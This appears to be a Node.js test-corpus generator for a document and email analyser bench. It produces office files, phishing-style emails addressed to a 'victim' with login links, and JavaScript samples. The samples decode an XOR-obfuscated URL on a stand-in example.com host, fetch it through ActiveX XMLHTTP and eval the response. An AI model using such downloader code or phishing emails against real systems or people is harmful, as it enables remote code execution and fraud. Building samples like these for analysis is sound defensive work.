import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const run = (cmd, args, cwd, input) => execFileSync(cmd, args, { cwd, input, stdio: [input ? 'pipe' : 'ignore', 'pipe', 'pipe'], timeout: 300_000 });
const VOCABULARY = ['invoice', 'payment', 'overdue', 'account', 'password', 'update', 'shipment', 'contract', 'quarterly', 'report', 'urgent', 'review'];

/**
 * Documents and email for the analyser bench (issue 15's plugins): seeded text turned into
 * doc, docx, xls, xlsx, rtf, pdf and html by LibreOffice in one headless call per target format,
 * emails carrying those documents built by Python's email package, and small JavaScript files.
 * Returns [category, name, bytes] triples; what could not be built is said in `notes`.
 */
export function documentFormats(work, next, spec, notes) {
  const out = [];
  const words = (n) => Array.from({ length: n }, () => VOCABULARY[Math.floor(next() * VOCABULARY.length)]).join(' ');
  const src = join(work, 'documents-src');
  mkdirSync(src, { recursive: true });
  for (let i = 0; i < spec.documents; i++) {
    const paragraphs = Array.from(
      { length: 2 + Math.floor(next() * 30) },
      () => `${words(8 + Math.floor(next() * 60))} https://portal-${i}.example.com/${words(1)}`,
    );
    writeFileSync(join(src, `doc-${i}.txt`), paragraphs.join('\n\n'));
    const rows = Array.from({ length: 2 + Math.floor(next() * 40) }, (_, r) => `${r},${words(2)},${Math.floor(next() * 1e6)}`);
    writeFileSync(join(src, `sheet-${i}.csv`), rows.join('\n'));
  }
  const converted = join(work, 'documents-out');
  const soffice = ['soffice', 'libreoffice'].find((bin) => (process.env.PATH ?? '').split(':').some((d) => d && existsSync(join(d, bin))));
  if (!soffice) notes.push('no LibreOffice (soffice): no doc/docx/xls/xlsx/rtf/pdf/html documents');
  else {
    const profile = `-env:UserInstallation=file://${join(work, 'lo-profile')}`;
    const texts = readdirSync(src).filter((f) => f.endsWith('.txt'));
    const sheets = readdirSync(src).filter((f) => f.endsWith('.csv'));
    for (const [format, inputs] of [
      ['doc', texts],
      ['docx', texts],
      ['rtf', texts],
      ['pdf', texts],
      ['html', texts],
      ['xls', sheets],
      ['xlsx', sheets],
    ]) {
      const dir = join(converted, format);
      mkdirSync(dir, { recursive: true });
      try {
        run(soffice, [profile, '--headless', '--convert-to', format, '--outdir', dir, ...inputs], src);
      } catch (err) {
        notes.push(`LibreOffice could not write ${format}: ${String(err.stderr ?? err.message).slice(0, 200)}`);
      }
      for (const name of readdirSync(dir).sort()) out.push([format, name, readFileSync(join(dir, name))]);
    }
  }
  const attachments = out.filter(([format]) => ['doc', 'docx', 'pdf', 'xlsx'].includes(format)).slice(0, spec.emails);
  const python = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : undefined;
  if (!python) notes.push('no /usr/bin/python3: no emails');
  else if (attachments.length > 0) {
    const script = [
      'import json, sys',
      'from email.message import EmailMessage',
      'spec = json.load(sys.stdin)',
      'for i, (name, path, body) in enumerate(spec):',
      '    m = EmailMessage()',
      "    m['From'] = f'Billing <billing{i}@example.net>'",
      "    m['To'] = 'victim@example.org'",
      "    m['Subject'] = f'Document {name}'",
      "    m['Received'] = f'from mx{i}.example.net (mx{i}.example.net [198.51.100.{i % 250}]) by mx.example.org; Mon, 30 Nov 2026 09:00:00 +0000'",
      '    m.set_content(body)',
      "    m.add_alternative(f'<html><body><p>{body}</p><a href=\"https://portal-{i}.example.com/login\">open</a></body></html>', subtype='html')",
      "    m.add_attachment(open(path, 'rb').read(), maintype='application', subtype='octet-stream', filename=name)",
      "    open(f'{sys.argv[1]}/mail-{i}.eml', 'wb').write(bytes(m))",
    ].join('\n');
    const dir = join(work, 'emails');
    mkdirSync(dir, { recursive: true });
    const given = attachments.map(([format, name], i) => [name, join(converted, format, name), words(30 + i)]);
    run(python, ['-c', script, dir], work, JSON.stringify(given));
    for (const name of readdirSync(dir).sort()) out.push(['eml', name, readFileSync(join(dir, name))]);
  }
  for (let i = 0; i < spec.scripts; i++) {
    const key = Math.floor(next() * 200) + 1;
    const url = `http://cdn-${i}.example.com/${words(1)}.js`;
    const encoded = [...url].map((c) => c.charCodeAt(0) ^ key);
    const filler = Array.from({ length: 20 + Math.floor(next() * 400) }, (_, n) => `var _0x${(n * 7919 + i).toString(16)} = '${words(3)}';`).join('\n');
    out.push([
      'js',
      `script-${i}.js`,
      Buffer.from(
        `${filler}\nvar k = ${key}, d = [${encoded.join(',')}], s = '';\nfor (var j = 0; j < d.length; j++) s += String.fromCharCode(d[j] ^ k);\nvar x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', s, false); x.send(); eval(x.responseText);\n`,
      ),
    ]);
  }
  return out;
}
